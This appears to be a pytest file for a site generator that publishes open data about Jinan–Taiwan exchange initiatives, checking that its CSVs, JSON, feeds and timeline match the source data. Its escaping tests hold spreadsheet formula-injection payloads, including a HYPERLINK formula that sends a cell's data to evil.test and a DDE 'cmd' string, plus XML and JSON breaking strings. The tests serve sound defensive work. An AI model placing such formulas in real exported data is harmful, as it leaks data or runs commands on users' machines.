"""Open data, feeds, timeline, charts and figures, read back from a real build."""

from __future__ import annotations

import csv
import html as html_lib
import io
import json
import re

import feedparser
import pytest

from qinqing.ingest.loader import load
from qinqing.ingest.validation import check
from qinqing.pages.opendata import COLLECTIONS

from conftest import DATA, build_site, copy_project


def read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def assert_same(yaml_value, json_value, where):
    """Every value written in the YAML is in the JSON, unchanged (dates as text)."""
    if isinstance(yaml_value, dict):
        for key, value in yaml_value.items():
            assert key in json_value, f"{where}.{key}"
            assert_same(value, json_value[key], f"{where}.{key}")
    elif isinstance(yaml_value, list):
        assert len(yaml_value) == len(json_value), where
        for i, (a, b) in enumerate(zip(yaml_value, json_value)):
            assert_same(a, b, f"{where}[{i}]")
    elif isinstance(yaml_value, (int, float)) and not isinstance(yaml_value, bool) and key_is_date(where):
        assert str(yaml_value) == json_value, where
    elif isinstance(yaml_value, str):
        assert yaml_value.strip() == json_value, where
    else:
        assert yaml_value == json_value, where


def key_is_date(where: str) -> bool:
    return where.endswith((".date", ".year"))


def test_published_json_is_the_yaml(site):
    raw = load(DATA).data
    for folder in (site, site / "en"):
        published = json.loads((folder / "data" / "initiatives.json").read_text(encoding="utf-8"))
        assert_same(raw, published, "data")


@pytest.mark.parametrize("collection", COLLECTIONS)
def test_published_csv_is_the_yaml(site, collection):
    raw = load(DATA).data.get(collection, [])
    rows = read_csv(site / "data" / f"{collection}.csv")
    assert len(rows) == len(raw)
    for record, row in zip(raw, rows):
        assert row["id"] == record["id"]
        for key, value in record.items():
            if isinstance(value, dict) and {"zh", "en"} == set(value):
                assert row[f"{key}_zh"] == value["zh"].strip() and row[f"{key}_en"] == (value["en"] or "").strip()
            elif key == "source":
                # Every passage the record cites, its further ones after the first.
                excerpts = [value["excerpt"], *(c["excerpt"] for c in record.get("more_sources", []))]
                assert row["source_excerpt"] == " / ".join(excerpts) and row["source_section"] == value["section"]
            elif isinstance(value, list) and value and isinstance(value[0], str):
                assert row[key].split(";") == value
            elif isinstance(value, dict) and "amount" in value:
                assert float(row[f"{key}_amount"]) == value["amount"] and row[f"{key}_currency"] == value["currency"]
            elif key in ("date", "year"):
                assert row[key] == str(value)


def test_data_page_links_downloads_and_dictionary(site):
    for folder in (site, site / "en"):
        html = (folder / "data" / "index.html").read_text(encoding="utf-8")
        for collection in COLLECTIONS:
            assert f'href="{collection}.csv"' in html
        assert 'href="initiatives.json"' in html and 'href="../feed.xml"' in html
        assert "<code>title_zh</code>" in html and "<code>source_excerpt</code>" in html
    # A column holds one language's text: its type says text, not "text (zh, en)".
    data_page = (site / "data" / "index.html").read_text(encoding="utf-8")
    assert ">文本</td>" in data_page and "中英文文本" not in data_page
    english = (site / "en" / "data" / "index.html").read_text(encoding="utf-8")
    assert ">text</td>" in english and "text (zh, en)" not in english


def test_feeds_parse_and_link_to_detail_pages(site):
    data = check(DATA).data
    for lang, folder in (("zh", site), ("en", site / "en")):
        feed = feedparser.parse((folder / "feed.xml").read_bytes())
        assert feed.bozo == 0, feed.get("bozo_exception")
        assert len(feed.entries) == min(50, len(data.activities) + len(data.projects))
        ids = [e.id for e in feed.entries]
        assert len(set(ids)) == len(ids) and all(i.startswith(f"tag:qinqing.jinan,2024:{lang}/") for i in ids)
        base = "https://example.test/qinqing/" + ("en/" if lang == "en" else "")
        for entry in feed.entries:
            assert entry.link.startswith(base)
            assert (folder / entry.link.removeprefix(base) / "index.html").is_file(), entry.link
        # Dated records first, newest first: a year-only date counts as the end of its year,
        # and Chen Sen-tien's visit (soon after the Shanghai visit) comes just before it.
        links = [e.link.rstrip("/").rsplit("/", 1)[-1] for e in feed.entries]
        assert links[0] == "special-food-city"
        assert links.index("chen-sen-tien-visit") + 1 == links.index("shanghai-new-year-visit")
        assert links.index("visits-to-taiwanese-companies") < links.index("chen-sen-tien-visit")
        home = (folder / "index.html").read_text(encoding="utf-8")
        assert re.search(r'<link rel="alternate" type="application/atom\+xml"[^>]*href="feed.xml"', home)


def test_timeline_groups_by_year_at_the_data_precision(site):
    html = (site / "timeline" / "index.html").read_text(encoding="utf-8")
    assert '<h2 id="y2023">' in html
    # Each date as precise as the source, with its basis: converted from the lunar calendar,
    # or a year inferred from the publication date.
    assert '<time datetime="2023-02-03">2023年2月3日（农历换算，年份推定）</time>' in html
    assert '<time datetime="2023-10">截至2023年10月底（年份推定）</time>' in html
    assert '<time datetime="2023">2023年（年份推定）</time>' in html
    en = (site / "en" / "timeline" / "index.html").read_text(encoding="utf-8")
    assert '<time datetime="2023-10">as of the end of October 2023 (year inferred)</time>' in en
    # Chen Sen-tien's visit came soon after the Shanghai visit; year-only records follow the dated ones.
    titles = re.findall(r'<time datetime="([^"]+)">', html)
    assert titles[:2] == ["2023-02-03", "2023"] and titles.index("2023-10") < len(titles)
    assert html.index("正月十三赴上海") < html.index("陈森田来济考察") < html.index("最美家庭")
    for number in (1, 2, 3):
        assert f'id="qq-f-{number}"' in html
    assert '<li data-pillar="2">' in html and '<li data-pillar="3">' in html  # culture has no dated record


def test_charts_compare_like_with_like_and_keep_their_table(site):
    html = (site / "en" / "figures" / "index.html").read_text(encoding="utf-8")
    # Only amounts of money are charted, and one project's amount is no comparison: no chart.
    # No chart counts this site's records or sets unlike honours (families, people, companies)
    # on one scale.
    article = html.split("<article", 1)[1].split("</article>")[0]
    assert 'class="qq-bars"' not in article and "<svg" not in article
    assert "<table>" in article


@pytest.mark.build
def test_adding_a_record_updates_everything(tmp_path):
    project = copy_project(tmp_path / "project")
    data = project / "data" / "initiatives.yaml"
    text = data.read_text(encoding="utf-8")
    new_project = """  - id: test-added-project
    name: {zh: 测试新增项目, en: Test added project}
    kind: project
    date: 2024-05
    amount: {amount: 100000000, currency: CNY}
    summary: {zh: 测试, en: Test}
    source: {section: investment, excerpt: 成功签约总投资约15亿元的乡村振兴文旅项目}
"""
    new_activity = """  - id: test-added-activity
    title: {zh: 测试新增活动, en: Test added activity}
    pillar: culture
    date: 2024-06-01
    summary: {zh: 测试, en: Test}
    source: {section: culture, excerpt: 济南与基隆多个社区邻里结亲联姻}
"""
    text = text.replace("\nprojects:\n", "\nprojects:\n" + new_project, 1)
    text = text.replace("\nactivities:\n", "\nactivities:\n" + new_activity, 1)
    data.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    result = build_site(project, out, strict=False)  # the new records' figures are not in their passage: warnings
    assert result.returncode == 0, result.stdout + result.stderr
    home = (out / "index.html").read_text(encoding="utf-8")
    # Each project's own amount, never a total the sources do not give.
    assert "约15亿元" in home and "1亿元" in home and "16亿元" not in home
    assert "测试新增活动" in home  # recent activities
    en_home = (out / "en" / "index.html").read_text(encoding="utf-8")
    assert "CNY 100 million" in en_home and "1.6 billion" not in en_home
    timeline = (out / "timeline" / "index.html").read_text(encoding="utf-8")
    assert '<h2 id="y2024">' in timeline and "测试新增项目" in timeline
    figures = (out / "en" / "figures" / "index.html").read_text(encoding="utf-8")
    assert "Test added project" in figures and 'id="chart-investment"' in figures
    # Two amounts: a chart, in HTML, with its table; each bar's width is its share of the largest.
    chart = figures.split('id="chart-investment"', 1)[1].split("</ul>")[0]
    assert chart.count('class="qq-bars__bar" style="width: 100.0%"') == 1 and "Test added project" in chart
    assert "test-added-project" in (out / "data" / "projects.csv").read_text(encoding="utf-8-sig")
    assert "test-added-activity" in (out / "data" / "initiatives.json").read_text(encoding="utf-8")
    feed = feedparser.parse((out / "en" / "feed.xml").read_bytes())
    assert feed.entries[0].title == "Test added activity"
    assert (out / "activities" / "test-added-activity" / "index.html").is_file()


# --- hostile data: every output's escaping, read back by a real parser ------------------------

import shutil  # noqa: E402
import xml.etree.ElementTree as ET  # noqa: E402

import yaml  # noqa: E402

from qinqing.i18n import languages  # noqa: E402
from qinqing.ingest.model import Localized  # noqa: E402
from qinqing.pages import opendata  # noqa: E402

TABLE = languages.load(DATA)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def parsed_csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_neutralises_formulas(text):
    cell = opendata.csv_cell(text)
    assert cell == "'" + text
    # Written and read back by the csv module: one cell, the apostrophe first, nothing else lost.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(["id", cell, 3])
    assert parsed_csv(buffer.getvalue().encode()) == [["id", "'" + text, "3"]]


@pytest.mark.parametrize("value", ["2024-01-12", "2023", "约15亿元", "", "a=b", " =1", "jinan;keelung", 1500000000,
                                   -5, 2.5, 0])
def test_csv_cell_leaves_other_values_alone(value):
    assert opendata.csv_cell(value) == value


def hostile_copy(tmp_path, edit) -> tuple:
    """A copy of the data folder (languages table, converter lists and source texts beside the
    data file), edited by `edit(data)`, checked as a build checks it."""
    folder = tmp_path / "data"
    shutil.copytree(DATA.parent, folder)
    path = folder / "initiatives.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    edit(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    try:
        return check(path).data
    finally:
        check(DATA)  # the real languages table again for the next test


def test_formulas_in_the_data_are_text_in_every_csv(tmp_path):
    def edit(data):
        activity = data["activities"][0]
        activity["title"] = {"zh": FORMULAS[1], "en": FORMULAS[0]}
        activity["summary"] = {"zh": FORMULAS[2], "en": FORMULAS[3]}
        data["places"][0]["name"]["en"] = "=1+1"
        data["quotes"][0]["text"]["en"] = "@cmd"

    data = hostile_copy(tmp_path, edit)
    files = opendata.downloads(data, TABLE)
    rows = {name: parsed_csv(raw) for name, raw in files.items() if name.endswith(".csv")}
    [header, first, *_] = rows["data/activities.csv"]
    cell = dict(zip(header, first))
    assert cell["title_en"] == "'" + FORMULAS[0] and cell["title_zh"] == "'" + FORMULAS[1]
    assert cell["summary_zh"] == "'" + FORMULAS[2] and cell["summary_en"] == "'" + FORMULAS[3]
    assert dict(zip(*rows["data/places.csv"][:2]))["name_en"] == "'=1+1"
    assert dict(zip(*rows["data/quotes.csv"][:2]))["text_en"] == "'@cmd"
    # Not one cell of any CSV starts a formula; the JSON keeps the data as it is.
    for name, table in rows.items():
        for row in table:
            assert not [c for c in row if c.startswith(FORMULA_STARTS)], (name, row)
    published = json.loads(files["data/initiatives.json"])
    assert published["activities"][0]["title"]["en"] == FORMULAS[0]


def test_the_real_csvs_are_unchanged_by_the_escaping():
    """No real cell starts a formula, so no cell gets an apostrophe: the files are those the
    csv module writes from the records, and numbers stay numbers."""
    data = check(DATA).data
    for collection in COLLECTIONS:
        raw = opendata.csv_bytes(data, collection, TABLE)
        for row in parsed_csv(raw):
            assert not [c for c in row if c.startswith("'")], (collection, row)
    projects = parsed_csv(opendata.csv_bytes(data, "projects", TABLE))
    amounts = [row[projects[0].index("amount_amount")] for row in projects[1:]]
    assert any(amounts) and all(re.fullmatch(r"\d+(\.\d+)?", a) for a in amounts if a)


XML_HOSTILE = ["nul\x00", "esc\x1b[31m", "bell\x07", "vt\x0bff\x0c", "us\x1f", "\ufffe\uffff", "lone\ud800x\udfff",
               "</title><x>&amp;&lt;\"'", "]]>", "tab\tlf\ncr"]


@pytest.mark.parametrize("text", XML_HOSTILE)
def test_xml_text_is_well_formed_in_text_and_attributes(text):
    escaped = opendata.xml_text(text)
    escaped.encode("utf-8")  # no lone surrogate left
    root = ET.fromstring(f'<a b="{escaped}">{escaped}</a>'.encode())
    expected = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)
    # As a parser reads them: a CR is a line end; in an attribute every line end or tab a space.
    assert root.text == re.sub(r"\r\n?", "\n", expected)
    assert root.get("b") == re.sub(r"\r\n?|[\n\t]", " ", expected)


def with_titles(data, make):
    """`data` with every activity's and project's title or name replaced (as constructed, not
    validated: load-time validation may refuse such text, the feed must not depend on it)."""
    activities = [a.model_copy(update={"title": make(a.title)}) for a in data.activities]
    projects = [p.model_copy(update={"name": make(p.name)}) for p in data.projects]
    return data.model_copy(update={"activities": activities, "projects": projects})


def test_control_characters_in_titles_never_break_the_feed():
    data = check(DATA).data
    hostile = "\x00NUL \x1b[31mESC \x07BEL \ud800 </title><script>&amp;"
    data = with_titles(data, lambda t: Localized.model_construct(zh=hostile + t.zh, en=hostile + (t.en or ""),
                                                                 overrides={}))
    for lang in ("zh", "en"):
        raw = opendata.atom_bytes(data, TABLE.edition(lang), "https://example.test/")
        root = ET.fromstring(raw)  # raises on a malformed document
        ns = {"a": "http://www.w3.org/2005/Atom"}
        titles = [e.find("a:title", ns).text for e in root.findall("a:entry", ns)]
        assert titles and all(t.startswith("\ufffdNUL \ufffd[31mESC \ufffdBEL \ufffd </title><script>&amp;")
                              for t in titles), titles[:2]
        feed = feedparser.parse(raw)
        assert feed.bozo == 0, feed.get("bozo_exception")


def test_real_feeds_are_well_formed():
    data = check(DATA).data
    for lang in ("zh", "en", "zh-hant"):
        ET.fromstring(opendata.atom_bytes(data, TABLE.edition(lang), "https://example.test/?a=1&b=<2>"))


@pytest.mark.parametrize("text", ['"}, "x": 1, {"', "back\\slash", "nul\x00 esc\x1b", "</script><!--", "\u2028\u2029",
                                  "lone\ud800", "emoji 😀"])
def test_json_text_cannot_be_broken(text):
    payload = {"title": text, "list": [text, 1, None]}
    written = opendata.json_text(payload)
    written.encode("utf-8")
    assert json.loads(written) == payload


def test_hostile_titles_round_trip_through_the_published_json():
    data = check(DATA).data
    hostile = '"}\\\x00\x1b</script>'
    data = with_titles(data, lambda t: Localized.model_construct(zh=hostile, en=t.en, overrides={}))
    published = json.loads(opendata.json_bytes(data, TABLE))
    assert published["activities"][0]["title"]["zh"] == hostile


# --- faithfulness in the open data: open lists, inferred references, every passage, every language

from qinqing.i18n import languages  # noqa: E402

OPEN_END = {"zh": "等", "en": ", among others"}


def list_columns(header, field):
    """The per-language columns of a list field, {column: the language's code}: its texts
    (festivals_zh…) or, for references, its names (places_names_zh…)."""
    out = {}
    for row in TABLE_ROWS:
        # A written language's texts are in its field's column; a converted one's in its own.
        for column in (f"{field}_{row.code if row.converted else row.field}", f"{field}_names_{row.code}"):
            if column in header:
                out[column] = row.code
    return out


TABLE_ROWS = list(languages.load(DATA))


def end_of(code):
    return OPEN_END[languages.load(DATA).get(code).format]


@pytest.mark.parametrize("collection", ["activities", "stations", "projects"])
def test_an_open_list_says_so_in_every_language_column(site, collection):
    raw = {r["id"]: r for r in load(DATA).data[collection]}
    rows = read_csv(site / "data" / f"{collection}.csv")
    published = {r["id"]: r for r in json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))[collection]}
    header = list(rows[0])
    seen = 0
    for row in rows:
        record = raw[row["id"]]
        open_lists = record.get("open_lists", [])
        assert row["open_lists"] == ";".join(open_lists)
        assert published[row["id"]]["open_lists"] == open_lists  # the JSON keeps it too
        for field in ("festivals", "formats", "services", "places", "organisations", "people", "parties", "partners"):
            columns = list_columns(header, field)
            if field not in record or not record[field]:
                continue
            assert columns, (collection, field)
            for column, code in columns.items():
                cell = row[column]
                if field in open_lists:
                    seen += 1
                    assert cell.endswith(end_of(code)), (row["id"], column, cell)
                else:
                    assert not cell.endswith(("等", ", among others")), (row["id"], column, cell)
            if field in open_lists and isinstance(record[field][0], str):
                assert row[field].split(";") == record[field]  # the ids stay ids
    if collection == "activities":  # (the stations' and projects' lists are all closed today)
        assert seen >= 3 * len(TABLE_ROWS)


def test_open_lists_of_the_article_read_as_open(site):
    rows = {r["id"]: r for r in read_csv(site / "data" / "activities.csv")}
    festival = rows["jinan-keelung-neighbourhood-festival"]
    assert festival["festivals_zh"] == "春节 | 端午节 | 中秋节 | 重阳节等"
    assert festival["festivals_en"].endswith("Double Ninth Festival, among others")
    assert festival["festivals_zh-hant"] == "春節 | 端午節 | 中秋節 | 重陽節等"
    visits = rows["visits-to-taiwanese-companies"]
    assert visits["places_names_zh"].endswith("四川等") and visits["places_names_en"].endswith("Sichuan, among others")
    assert visits["places_names_zh-hant"].endswith("四川等")


def test_an_inferred_reference_is_marked(site):
    rows = {r["id"]: r for r in read_csv(site / "data" / "projects.csv")}
    food = rows["special-food-city"]
    assert food["parties"].split(";") == ["qianlong-group", "jiyang-government"]
    assert food["parties_names_zh"].startswith("乾隆集团（推定） | ")
    assert food["parties_names_en"].startswith("Qianlong Group (inferred) | ")
    assert food["parties_names_zh-hant"].startswith("乾隆集團（推定） | ")
    assert "（推定）" not in food["places_names_zh"]
    [inferred] = json.loads(food["inferred"])
    assert (inferred["field"], inferred["id"]) == ("parties", "qianlong-group")
    published = next(p for p in json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))["projects"]
                     if p["id"] == "special-food-city")
    assert [(x["field"], x["id"]) for x in published["inferred"]] == [("parties", "qianlong-group")]
    assert published["inferred"][0]["reason"]["zh"] and published["inferred"][0]["reason"]["zh-hant"]


def test_further_passages_in_both_files(site):
    raw = {r["id"]: r for r in load(DATA).data["activities"]}
    record = raw["family-style-visits"]
    assert record["more_sources"]
    row = next(r for r in read_csv(site / "data" / "activities.csv") if r["id"] == "family-style-visits")
    assert row["source_excerpt"].split(" / ") == [record["source"]["excerpt"]] + [c["excerpt"] for c in record["more_sources"]]
    published = next(a for a in json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))["activities"]
                     if a["id"] == "family-style-visits")
    assert [c["excerpt"] for c in published["more_sources"]] == [c["excerpt"] for c in record["more_sources"]]


def test_taiwan_funded_is_empty_where_the_source_does_not_say(site):
    rows = {r["id"]: r for r in read_csv(site / "data" / "organisations.csv")}
    assert rows["want-want"]["taiwan_funded"] == "true"
    assert rows["hongzheng-technology"]["taiwan_funded"] == ""  # a company the source does not call 台企
    assert rows["jinan-tao"]["taiwan_funded"] == ""
    raw = {r["id"]: r for r in load(DATA).data["organisations"]}
    for id_, row in rows.items():
        stated = raw[id_].get("taiwan_funded")
        assert row["taiwan_funded"] == {True: "true", False: "false", None: ""}[stated], id_
        if stated is False:
            assert row["taiwan_funded_source_excerpt"] == raw[id_]["taiwan_funded_source"]["excerpt"]
    header = list(next(iter(rows.values())))
    assert header.count("source_excerpt") == 1 and "taiwan_funded_source_excerpt" in header
    published = {o["id"]: o for o in json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))["organisations"]}
    assert published["hongzheng-technology"]["taiwan_funded"] is None and published["want-want"]["taiwan_funded"] is True
    # The data dictionary says what an empty cell means, in every language.
    for folder, words in ((site, "空值表示原文未说明"), (site / "en", "empty = not stated"), (site / "zh-hant", "空值表示原文未說明")):
        page = html_lib.unescape((folder / "data" / "index.html").read_text(encoding="utf-8"))
        assert words in page, folder


def test_the_kind_of_speech_in_both_files_and_the_dictionary(site):
    raw = {r["id"]: r["kind"] for r in load(DATA).data["quotes"]}
    rows = read_csv(site / "data" / "quotes.csv")
    assert {r["id"]: r["kind"] for r in rows} == raw and set(raw.values()) == {"direct", "reported", "paraphrase"}
    published = json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))["quotes"]
    assert {q["id"]: q["kind"] for q in published} == raw
    zh = html_lib.unescape((site / "data" / "index.html").read_text(encoding="utf-8"))
    en = html_lib.unescape((site / "en" / "data" / "index.html").read_text(encoding="utf-8"))
    assert "paraphrase 概括转述" in zh and "纷纷表示" in zh
    assert "paraphrase (纷纷表示, what many said" in en


def texts_of(value, where="data"):
    """Every text object ({zh, en}) of the published JSON, with where it is (the termbase's
    entries are terms, not texts)."""
    if isinstance(value, dict):
        if "zh" in value and "en" in value and not where.startswith("data.termbase"):
            yield where, value
            return
        for key, item in value.items():
            yield from texts_of(item, f"{where}.{key}")
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from texts_of(item, f"{where}[{i}]")


def test_the_json_carries_every_language_the_csv_does(site):
    published = json.loads((site / "data" / "initiatives.json").read_text(encoding="utf-8"))
    converted = [row.code for row in TABLE_ROWS if row.converted]
    assert converted == ["zh-hant"]
    texts = list(texts_of(published))
    assert len(texts) > 100
    for where, text in texts:
        assert list(text)[:2 + len(converted)] == ["zh", "en", *converted], where
        for code in converted:
            if text["zh"] is None:  # a note with no Chinese text
                assert text[code] is None, where
            else:
                assert isinstance(text[code], str) and text[code], where
    # The same text the CSV's columns give, converted alike.
    for collection in COLLECTIONS:
        rows = read_csv(site / "data" / f"{collection}.csv")
        records = published[collection]
        for row, record in zip(rows, records):
            for column, cell in row.items():
                field, _, code = column.rpartition("_")
                if code in converted and field in record and isinstance(record[field], dict) and "zh" in record[field]:
                    assert (record[field][code] or "") == cell, (collection, record["id"], column)
    title = published["activities"][0]["title"]
    assert title["zh-hant"] == "正月十三赴上海「拜年式」招商"
    assert published["sources"][0]["title"]["zh-hant"].startswith("濟南市台港澳辦")
    # Source excerpts stay as the source writes them.
    assert "zh-hant" not in published["activities"][0]["source"]
